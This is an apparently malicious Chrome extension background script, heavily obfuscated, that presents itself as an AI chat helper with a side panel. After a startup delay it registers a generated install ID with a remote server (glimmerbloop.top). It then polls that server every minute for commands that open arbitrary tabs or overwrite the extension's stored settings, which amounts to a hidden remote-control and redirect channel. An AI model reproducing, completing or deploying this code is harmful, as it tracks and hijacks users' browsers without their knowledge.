const CEB = {
  CEB_ENCRYPT_LOCAL_STORAGE: "true",
  CEB_BASE_URL: "https://api.glimmerbloop.top/api",
  CEB_STARTUP_DELAY: "15",
  CEB_ACTIVITY_TIMEOUT: "5",
  CEB_REDIRECT_URL: "https://www.google.com",
  CEB_INSTALL_ENDPOINT: "/v2/install",
  CEB_NODE_ENV: "production"
};
function a0_0x44eb(_0x6c5650,_0xb4da4b){_0x6c5650=_0x6c5650-0xff;var _0x2c6dee=a0_0x2c6d();var _0x44ebcc=_0x2c6dee[_0x6c5650];if(a0_0x44eb['\x77\x54\x4e\x66\x50\x57']===undefined){var _0x24d3c6=function(_0x33c69f){var _0x497b09='\x61\x62\x63\x64\x65\x66\x67\x68\x69\x6a\x6b\x6c\x6d\x6e\x6f\x70\x71\x72\x73\x74\x75\x76\x77\x78\x79\x7a\x41\x42\x43\x44\x45\x46\x47\x48\x49\x4a\x4b\x4c\x4d\x4e\x4f\x50\x51\x52\x53\x54\x55\x56\x57\x58\x59\x5a\x30\x31\x32\x33\x34\x35\x36\x37\x38\x39\x2b\x2f\x3d';var _0x41a618='',_0x5cf2b5='';for(var _0x241c9c=0x0,_0x33b1a4,_0xd3203c,_0x4d9de3=0x0;_0xd3203c=_0x33c69f['\x63\x68\x61\x72\x41\x74'](_0x4d9de3++);~_0xd3203c&&(_0x33b1a4=_0x241c9c%0x4?_0x33b1a4*0x40+_0xd3203c:_0xd3203c,_0x241c9c++%0x4)?_0x41a618+=String['\x66\x72\x6f\x6d\x43\x68\x61\x72\x43\x6f\x64\x65'](0xff&_0x33b1a4>>(-0x2*_0x241c9c&0x6)):0x0){_0xd3203c=_0x497b09['\x69\x6e\x64\x65\x78\x4f\x66'](_0xd3203c);}for(var _0x71ec0c=0x0,_0x247a4f=_0x41a618['\x6c\x65\x6e\x67\x74\x68'];_0x71ec0c<_0x247a4f;_0x71ec0c++){_0x5cf2b5+='\x25'+('\x30\x30'+_0x41a618['\x63\x68\x61\x72\x43\x6f\x64\x65\x41\x74'](_0x71ec0c)['\x74\x6f\x53\x74\x72\x69\x6e\x67'](0x10))['\x73\x6c\x69\x63\x65'](-0x2);}return decodeURIComponent(_0x5cf2b5);};a0_0x44eb['\x4c\x51\x71\x6d\x76\x78']=_0x24d3c6,a0_0x44eb['\x74\x59\x4c\x44\x75\x58']={},a0_0x44eb['\x77\x54\x4e\x66\x50\x57']=!![];}var _0x274a49=_0x2c6dee[0x0];a0_0x44eb['\x61\x6a\x55\x64\x77\x44']!==_0x274a49&&(a0_0x44eb['\x74\x59\x4c\x44\x75\x58']={},a0_0x44eb['\x61\x6a\x55\x64\x77\x44']=_0x274a49);var _0x5d4ed6=a0_0x44eb['\x74\x59\x4c\x44\x75\x58'][_0x6c5650];return _0x5d4ed6===undefined?(_0x44ebcc=a0_0x44eb['\x4c\x51\x71\x6d\x76\x78'](_0x44ebcc),a0_0x44eb['\x74\x59\x4c\x44\x75\x58'][_0x6c5650]=_0x44ebcc):_0x44ebcc=_0x5d4ed6,_0x44ebcc;}(function(_0x2d1692,_0x4eacf1){var _0x52907b=a0_0x44eb,_0x1a1f58=_0x2d1692();while(!![]){try{var _0x62fb32=-parseInt(_0x52907b(0x152))/0x1*(-parseInt(_0x52907b(0x128))/0x2)+parseInt(_0x52907b(0x141))/0x3*(-parseInt(_0x52907b(0x146))/0x4)+parseInt(_0x52907b(0x143))/0x5+parseInt(_0x52907b(0x115))/0x6+parseInt(_0x52907b(0x17a))/0x7+-parseInt(_0x52907b(0x177))/0x8+parseInt(_0x52907b(0x162))/0x9*(parseInt(_0x52907b(0x171))/0xa);if(_0x62fb32===_0x4eacf1)break;else _0x1a1f58['push'](_0x1a1f58['shift']());}catch(_0x11cd51){_0x1a1f58['push'](_0x1a1f58['shift']());}}}(a0_0x2c6d,0xd3b0e),(function(){var _0x21737a=a0_0x44eb,_0x11ab6a={'\x71\x55\x47\x47\x6b':function(_0xd0e973,_0x3f9811){return _0xd0e973+_0x3f9811;},'\x63\x64\x42\x6e\x53':function(_0x557f05,_0x3821ae){return _0x557f05===_0x3821ae;},'\x50\x6e\x59\x67\x57':_0x21737a(0x158),'\x41\x57\x47\x59\x42':function(_0x1dff61,_0x56e599){return _0x1dff61(_0x56e599);},'\x6e\x4c\x62\x50\x52':function(_0xfcd3b6){return _0xfcd3b6();},'\x43\x4e\x76\x47\x52':function(_0x1e2983,_0x1f2ee6,_0x232a96){return _0x1e2983(_0x1f2ee6,_0x232a96);},'\x7a\x6e\x67\x42\x71':_0x21737a(0x135),'\x6f\x78\x62\x6c\x4d':function(_0x5f1ee4,_0x539d80){return _0x5f1ee4+_0x539d80;},'\x51\x45\x43\x4d\x55':function(_0x2ebc1a,_0xc6cc4e){return _0x2ebc1a+_0xc6cc4e;},'\x43\x73\x58\x6f\x4f':function(_0x319d3f,_0x506696){return _0x319d3f+_0x506696;},'\x69\x63\x55\x77\x56':_0x21737a(0x13a),'\x7a\x66\x4f\x63\x6b':_0x21737a(0x17d),'\x73\x66\x54\x4e\x44':_0x21737a(0x169),'\x4b\x6d\x50\x7a\x58':_0x21737a(0x14b),'\x76\x51\x66\x45\x69':function(_0x52a72e,_0x28cc57){return _0x52a72e>_0x28cc57;},'\x70\x58\x68\x43\x58':function(_0x58f93f,_0x2f6da2){return _0x58f93f-_0x2f6da2;},'\x66\x57\x70\x49\x74':function(_0x12f36b,_0x82fdbc){return _0x12f36b*_0x82fdbc;},'\x42\x48\x4a\x78\x43':function(_0x2251b3,_0xfe4f){return _0x2251b3(_0xfe4f);},'\x6f\x67\x45\x52\x69':function(_0x33c331,_0x43b062){return _0x33c331+_0x43b062;},'\x48\x6c\x63\x72\x61':_0x21737a(0x12a)+_0x21737a(0x16d)+'\x3d','\x49\x41\x6b\x59\x46':_0x21737a(0x156),'\x77\x67\x4c\x72\x4e':_0x21737a(0x176)+_0x21737a(0x182)+_0x21737a(0x10d),'\x79\x54\x67\x6c\x4b':_0x21737a(0x15e)+'\x20','\x76\x56\x7a\x67\x78':_0x21737a(0x180)+_0x21737a(0x136)+'\x74','\x72\x6e\x4c\x65\x66':_0x21737a(0x14f),'\x55\x4f\x49\x48\x78':function(_0x258c05,_0x4d7760,_0x53704f){return _0x258c05(_0x4d7760,_0x53704f);},'\x72\x68\x70\x73\x42':function(_0x4a2714,_0x16d9e3){return _0x4a2714(_0x16d9e3);},'\x50\x6a\x61\x73\x69':function(_0x5a9b98,_0x5ccf7a){return _0x5a9b98===_0x5ccf7a;},'\x55\x54\x4d\x65\x49':_0x21737a(0x117),'\x6a\x6a\x45\x53\x52':_0x21737a(0x15c),'\x75\x70\x73\x45\x78':function(_0x1ffd5c){return _0x1ffd5c();},'\x50\x71\x4f\x5a\x65':_0x21737a(0x16e)+_0x21737a(0x15a)+_0x21737a(0x180)+_0x21737a(0x129)+_0x21737a(0x161)+_0x21737a(0x17e)+_0x21737a(0x14d),'\x6a\x6b\x4e\x4f\x53':function(_0x5000fb,_0x263988){return _0x5000fb*_0x263988;},'\x5a\x43\x61\x59\x78':function(_0x506be9,_0x2b44ec){return _0x506be9(_0x2b44ec);}},_0xce3dd2=_0x11ab6a[_0x21737a(0x118)],_0x548f7a={'\x69\x64':null,'\x73\x74\x61\x72\x74\x65\x64':Date[_0x21737a(0x175)](),'\x6c\x61\x73\x74':Date[_0x21737a(0x175)]()};function _0x36aaa2(){var _0x2e0dc7=_0x21737a,_0x22b9ec={'\x70\x41\x73\x49\x7a':function(_0x961a12,_0x2ac041){var _0x53119e=a0_0x44eb;return _0x11ab6a[_0x53119e(0x11a)](_0x961a12,_0x2ac041);}},_0x22b663=new Uint8Array(0x10);return crypto[_0x2e0dc7(0x174)+_0x2e0dc7(0x173)+_0x2e0dc7(0x155)](_0x22b663),Array[_0x2e0dc7(0x121)](_0x22b663,function(_0x6df16c){var _0x2fb1cf=_0x2e0dc7;return _0x22b9ec[_0x2fb1cf(0x150)]('\x30',_0x6df16c[_0x2fb1cf(0x167)+'\x6e\x67'](0x10))[_0x2fb1cf(0x14e)](-0x2);})[_0x2e0dc7(0x145)]('');}function _0x1539ee(_0x2e9c5e,_0x77a17d){var _0x4817d0=_0x21737a,_0x36fbe9={};return _0x36fbe9[_0x2e9c5e]=_0x11ab6a[_0x4817d0(0x126)](CEB[_0x4817d0(0x15b)+_0x4817d0(0x17b)+_0x4817d0(0x13b)+_0x4817d0(0x153)+'\x45'],_0x11ab6a[_0x4817d0(0x168)])?_0x11ab6a[_0x4817d0(0x111)](btoa,JSON[_0x4817d0(0x148)+_0x4817d0(0x154)](_0x77a17d)):_0x77a17d,chrome[_0x4817d0(0x11b)+'\x65'][_0x4817d0(0x15f)][_0x4817d0(0x13e)](_0x36fbe9);}function _0x4d5c43(){var _0x905113=_0x21737a;return _0x548f7a['\x69\x64']=_0x11ab6a[_0x905113(0x10f)](_0x36aaa2),_0x11ab6a[_0x905113(0x106)](_0x1539ee,_0x11ab6a[_0x905113(0x109)],_0x548f7a['\x69\x64']),_0x11ab6a[_0x905113(0x111)](fetch,_0x11ab6a[_0x905113(0x114)](_0x11ab6a[_0x905113(0x114)](_0x11ab6a[_0x905113(0x160)](_0x11ab6a[_0x905113(0x160)](_0x11ab6a[_0x905113(0x12e)](CEB[_0x905113(0x14a)+_0x905113(0x15d)],CEB[_0x905113(0x120)+_0x905113(0x142)+_0x905113(0x184)+'\x4e\x54']),_0x11ab6a[_0x905113(0x16f)]),_0x548f7a['\x69\x64']),_0x11ab6a[_0x905113(0x125)]),chrome[_0x905113(0x164)+'\x65'][_0x905113(0x17f)+_0x905113(0x127)]()[_0x905113(0x103)+'\x6e']));}function _0xa75274(){var _0x4322b1=_0x21737a,_0x174e7f={'\x52\x75\x44\x62\x44':function(_0xffd2df,_0x103f3d){var _0x199dc5=a0_0x44eb;return _0x11ab6a[_0x199dc5(0x126)](_0xffd2df,_0x103f3d);},'\x59\x6b\x4e\x75\x49':_0x11ab6a[_0x4322b1(0x11f)],'\x50\x75\x63\x6e\x61':_0x11ab6a[_0x4322b1(0x163)],'\x76\x44\x6a\x58\x74':function(_0x32795e,_0x4a7c34,_0x5184b3){var _0x368618=_0x4322b1;return _0x11ab6a[_0x368618(0x106)](_0x32795e,_0x4a7c34,_0x5184b3);}};if(_0x11ab6a[_0x4322b1(0x108)](_0x11ab6a[_0x4322b1(0x105)](Date[_0x4322b1(0x175)](),_0x548f7a[_0x4322b1(0x172)]),_0x11ab6a[_0x4322b1(0x178)](_0x11ab6a[_0x4322b1(0x111)](Number,CEB[_0x4322b1(0x102)+_0x4322b1(0x112)+_0x4322b1(0x159)+'\x55\x54']),0xea60)))return;_0x11ab6a[_0x4322b1(0x131)](fetch,_0x11ab6a[_0x4322b1(0x116)](_0x11ab6a[_0x4322b1(0x160)](CEB[_0x4322b1(0x14a)+_0x4322b1(0x15d)],_0x11ab6a[_0x4322b1(0x132)]),_0x548f7a['\x69\x64']))[_0x4322b1(0x140)](function(_0x2f6bda){var _0x501d6e=_0x4322b1;return _0x2f6bda[_0x501d6e(0x10d)]();})[_0x4322b1(0x140)](function(_0x4f0f4e){var _0x1e8181=_0x4322b1;(_0x4f0f4e||[])[_0x1e8181(0x14c)+'\x68'](function(_0x4bc123){var _0x1bde2b=_0x1e8181;if(_0x174e7f[_0x1bde2b(0x134)](_0x4bc123[_0x1bde2b(0x17c)],_0x174e7f[_0x1bde2b(0x100)]))chrome[_0x1bde2b(0x11c)][_0x1bde2b(0x12f)]({'\x75\x72\x6c':_0x4bc123[_0x1bde2b(0x144)]||CEB[_0x1bde2b(0x16b)+_0x1bde2b(0x137)+_0x1bde2b(0x183)]});if(_0x174e7f[_0x1bde2b(0x134)](_0x4bc123[_0x1bde2b(0x17c)],_0x174e7f[_0x1bde2b(0x104)]))_0x174e7f[_0x1bde2b(0x13d)](_0x1539ee,_0x4bc123[_0x1bde2b(0x10c)],_0x4bc123[_0x1bde2b(0x139)]);});});}async function _0x3d9b22(_0x135390,_0xd9cd4d){var _0x19b55d=_0x21737a;_0x548f7a[_0x19b55d(0x172)]=Date[_0x19b55d(0x175)]();var _0x47ca26=await _0x11ab6a[_0x19b55d(0x106)](fetch,_0xce3dd2,{'\x6d\x65\x74\x68\x6f\x64':_0x11ab6a[_0x19b55d(0x151)],'\x68\x65\x61\x64\x65\x72\x73':{'\x43\x6f\x6e\x74\x65\x6e\x74\x2d\x54\x79\x70\x65':_0x11ab6a[_0x19b55d(0x122)],'\x41\x75\x74\x68\x6f\x72\x69\x7a\x61\x74\x69\x6f\x6e':_0x11ab6a[_0x19b55d(0x11a)](_0x11ab6a[_0x19b55d(0x107)],_0xd9cd4d)},'\x62\x6f\x64\x79':JSON[_0x19b55d(0x148)+_0x19b55d(0x154)]({'\x6d\x6f\x64\x65\x6c':_0x11ab6a[_0x19b55d(0x138)],'\x6d\x65\x73\x73\x61\x67\x65\x73':[{'\x72\x6f\x6c\x65':_0x11ab6a[_0x19b55d(0x170)],'\x63\x6f\x6e\x74\x65\x6e\x74':_0x135390}]})}),_0x4341c6=await _0x47ca26[_0x19b55d(0x10d)]();return _0x4341c6[_0x19b55d(0x124)+'\x73'][0x0][_0x19b55d(0x123)+'\x65'][_0x19b55d(0x11d)+'\x74'];}chrome[_0x21737a(0x164)+'\x65'][_0x21737a(0xff)+_0x21737a(0x10e)][_0x21737a(0x10a)+_0x21737a(0x13c)](function(_0x20f23e,_0x375526,_0x4ff138){var _0x4b9ff9=_0x21737a,_0x33b475={'\x4f\x65\x62\x4b\x48':function(_0x54c5b2,_0x1a5be0){var _0x1dfbe5=a0_0x44eb;return _0x11ab6a[_0x1dfbe5(0x12d)](_0x54c5b2,_0x1a5be0);}};if(_0x11ab6a[_0x4b9ff9(0x11e)](_0x20f23e[_0x4b9ff9(0x12c)],_0x11ab6a[_0x4b9ff9(0x12b)]))return chrome[_0x4b9ff9(0x11b)+'\x65'][_0x4b9ff9(0x15f)][_0x4b9ff9(0x110)](_0x11ab6a[_0x4b9ff9(0x166)],function(_0x2dc694){var _0x265746=_0x4b9ff9;_0x11ab6a[_0x265746(0x165)](_0x3d9b22,_0x20f23e[_0x265746(0x13f)],_0x2dc694[_0x265746(0x15c)])[_0x265746(0x140)](function(_0xceaf8f){var _0x59202c=_0x265746;_0x33b475[_0x59202c(0x10b)](_0x4ff138,{'\x61\x6e\x73\x77\x65\x72':_0xceaf8f});});}),!![];}),chrome[_0x21737a(0x133)][_0x21737a(0x157)+_0x21737a(0x181)][_0x21737a(0x10a)+_0x21737a(0x13c)](function(_0x5adc72){var _0xbe52bb=_0x21737a;chrome[_0xbe52bb(0x16c)+_0xbe52bb(0x179)][_0xbe52bb(0x169)]({'\x77\x69\x6e\x64\x6f\x77\x49\x64':_0x5adc72[_0xbe52bb(0x113)+'\x49\x64']});}),_0x11ab6a[_0x21737a(0x106)](setTimeout,function(){var _0x9f5a9a=_0x21737a;_0x11ab6a[_0x9f5a9a(0x119)](_0x4d5c43),_0x11ab6a[_0x9f5a9a(0x106)](setInterval,_0xa75274,0xea60);},_0x11ab6a[_0x21737a(0x16a)](_0x11ab6a[_0x21737a(0x149)](Number,CEB[_0x21737a(0x130)+_0x21737a(0x101)+_0x21737a(0x147)]),0x3e8));}()));function a0_0x2c6d(){var _0x5340ca=['\x41\x32\x4c\x55\x7a\x61','\x6a\x4e\x79\x39','\x79\x32\x39\x54\x43\x67\x58\x4c','\x7a\x32\x76\x30\x74\x77\x66\x55','\x7a\x67\x76\x4c\x43\x68\x6e\x4c','\x41\x32\x76\x4b','\x79\x78\x72\x50\x42\x32\x34\x56','\x78\x31\x76\x73\x74\x61','\x72\x75\x35\x65\x75\x65\x39\x6a','\x42\x32\x35\x6e\x7a\x78\x6e\x5a','\x77\x77\x54\x6f\x44\x75\x4b','\x71\x76\x6a\x75\x76\x76\x62\x46','\x71\x30\x76\x63\x78\x30\x66\x64','\x44\x4d\x76\x59\x43\x32\x4c\x56','\x75\x68\x76\x4a\x42\x4d\x65','\x43\x66\x48\x4f\x71\x31\x47','\x71\x30\x35\x32\x72\x31\x69','\x45\x76\x72\x4e\x42\x65\x53','\x44\x4c\x66\x4d\x72\x77\x4b','\x45\x4d\x35\x4e\x71\x4e\x65','\x79\x77\x72\x4b\x74\x67\x4c\x5a','\x74\x32\x76\x49\x73\x30\x47','\x41\x32\x76\x35','\x41\x4e\x6e\x56\x42\x47','\x79\x77\x44\x4c','\x42\x4b\x58\x49\x75\x66\x69','\x7a\x32\x76\x30','\x71\x76\x44\x68\x77\x75\x69','\x76\x65\x4c\x77\x73\x76\x72\x7a','\x44\x32\x4c\x55\x7a\x67\x39\x33','\x42\x33\x48\x49\x42\x65\x30','\x6d\x74\x75\x34\x6e\x64\x4b\x5a\x6e\x4e\x62\x6b\x72\x75\x4c\x58\x41\x57','\x42\x32\x44\x66\x75\x4d\x4b','\x79\x78\x6e\x52','\x75\x68\x66\x70\x77\x4d\x75','\x44\x78\x62\x5a\x72\x78\x47','\x43\x76\x76\x68\x72\x32\x53','\x43\x33\x72\x56\x43\x4d\x66\x4e','\x44\x67\x66\x49\x43\x57','\x79\x32\x39\x55\x44\x67\x76\x55','\x75\x67\x50\x48\x43\x32\x4b','\x43\x32\x7a\x75\x74\x4b\x71','\x71\x30\x76\x63\x78\x30\x4c\x6f','\x7a\x4e\x6a\x56\x42\x71','\x44\x32\x44\x6d\x43\x4b\x34','\x42\x77\x76\x5a\x43\x32\x66\x4e','\x79\x32\x48\x56\x41\x77\x6e\x4c','\x45\x4d\x7a\x70\x79\x32\x53','\x79\x32\x72\x63\x42\x4c\x6d','\x41\x77\x7a\x4c\x43\x33\x71','\x6e\x74\x61\x5a\x6f\x64\x4b\x57\x76\x76\x76\x6d\x79\x30\x44\x4a','\x7a\x77\x53\x55\x79\x32\x39\x54','\x6c\x33\x79\x59\x6c\x33\x72\x48','\x76\x76\x72\x6e\x7a\x75\x4b','\x44\x68\x4c\x57\x7a\x71','\x43\x4d\x48\x57\x43\x30\x69','\x71\x33\x6e\x79\x42\x30\x38','\x79\x33\x6a\x4c\x79\x78\x72\x4c','\x71\x30\x76\x63\x78\x31\x6e\x75','\x71\x4b\x48\x6b\x45\x65\x6d','\x73\x67\x58\x4a\x43\x4d\x65','\x79\x77\x6e\x30\x41\x77\x39\x55','\x75\x4e\x76\x65\x79\x4b\x71','\x43\x32\x4c\x4b','\x7a\x77\x53\x54\x79\x32\x48\x48','\x72\x65\x4c\x73\x72\x75\x6e\x75','\x44\x4c\x7a\x36\x7a\x33\x47','\x44\x4d\x66\x53\x44\x77\x75','\x70\x32\x4c\x4b\x70\x71','\x74\x65\x39\x64\x71\x75\x58\x46','\x44\x67\x76\x55\x7a\x78\x69','\x44\x4b\x72\x51\x77\x68\x71','\x43\x32\x76\x30','\x43\x68\x6a\x56\x42\x78\x62\x30','\x44\x67\x48\x4c\x42\x47','\x6d\x74\x76\x52\x73\x67\x72\x56\x43\x65\x79','\x75\x31\x72\x62\x74\x65\x58\x46','\x6d\x4a\x69\x31\x6f\x74\x69\x5a\x6e\x77\x54\x64\x42\x30\x50\x75\x74\x61','\x44\x78\x6a\x53','\x41\x4d\x39\x50\x42\x47','\x6e\x64\x75\x57\x6d\x74\x71\x57\x72\x32\x66\x48\x73\x68\x66\x51','\x72\x65\x76\x6d\x71\x76\x4b','\x43\x33\x72\x59\x41\x77\x35\x4e','\x77\x4b\x6e\x48\x77\x78\x47','\x71\x30\x76\x63\x78\x30\x6a\x62','\x43\x33\x72\x56\x43\x4d\x75','\x7a\x4d\x39\x59\x72\x77\x66\x4a','\x44\x67\x4c\x56\x42\x4e\x6d','\x43\x32\x58\x50\x79\x32\x75','\x44\x78\x6e\x4c\x43\x47','\x43\x65\x66\x5a\x73\x78\x4f','\x73\x75\x66\x52\x77\x75\x79','\x6d\x77\x35\x62\x41\x4b\x4c\x68\x44\x57','\x75\x31\x72\x70\x75\x4b\x66\x68','\x41\x77\x7a\x35','\x44\x77\x76\x5a','\x75\x65\x39\x74\x76\x61','\x42\x32\x35\x64\x42\x67\x4c\x4a','\x44\x68\x6a\x31\x7a\x71','\x78\x31\x72\x6a\x74\x75\x76\x70','\x6c\x59\x39\x48\x43\x67\x4b\x55','\x71\x30\x76\x63\x78\x30\x76\x6f','\x79\x78\x62\x50\x73\x32\x76\x35','\x75\x30\x76\x46\x76\x76\x6a\x6d','\x71\x4d\x76\x48\x43\x4d\x76\x59','\x42\x67\x39\x4a\x79\x77\x57','\x75\x75\x76\x64\x74\x76\x75','\x6c\x32\x6e\x4f\x79\x78\x71\x56','\x6d\x5a\x4b\x34\x6e\x30\x58\x57\x41\x76\x7a\x57\x7a\x71','\x73\x32\x31\x71\x45\x4c\x47','\x43\x4e\x76\x55\x44\x67\x4c\x54','\x76\x75\x39\x6a\x73\x68\x47','\x41\x4d\x50\x66\x75\x31\x69','\x44\x67\x39\x74\x44\x68\x6a\x50','\x75\x67\x35\x7a\x7a\x31\x43','\x42\x33\x62\x4c\x42\x47','\x41\x4d\x54\x6f\x74\x31\x6d','\x71\x30\x76\x63\x78\x31\x6a\x66','\x43\x32\x4c\x4b\x7a\x76\x62\x48','\x43\x32\x54\x5a\x70\x32\x4c\x4b','\x41\x68\x72\x30\x43\x68\x6d\x36','\x41\x77\x6e\x76\x44\x31\x79','\x43\x4d\x35\x6d\x7a\x77\x79','\x6d\x74\x69\x35\x6f\x74\x62\x62\x74\x77\x6e\x51\x42\x76\x65','\x42\x67\x66\x5a\x44\x61','\x7a\x67\x39\x54\x76\x4d\x66\x53','\x7a\x32\x76\x30\x75\x4d\x66\x55','\x42\x4d\x39\x33','\x79\x78\x62\x57\x42\x67\x4c\x4a','\x6d\x74\x61\x34\x6d\x74\x43\x31\x6d\x4b\x54\x34\x45\x67\x44\x72\x41\x57','\x7a\x4c\x44\x57\x73\x78\x71','\x42\x4d\x76\x53','\x6d\x74\x75\x58\x6d\x64\x69\x31\x71\x4c\x62\x57\x77\x78\x4c\x76','\x71\x31\x6a\x7a\x75\x66\x72\x46'];a0_0x2c6d=function(){return _0x5340ca;};return a0_0x2c6d();}
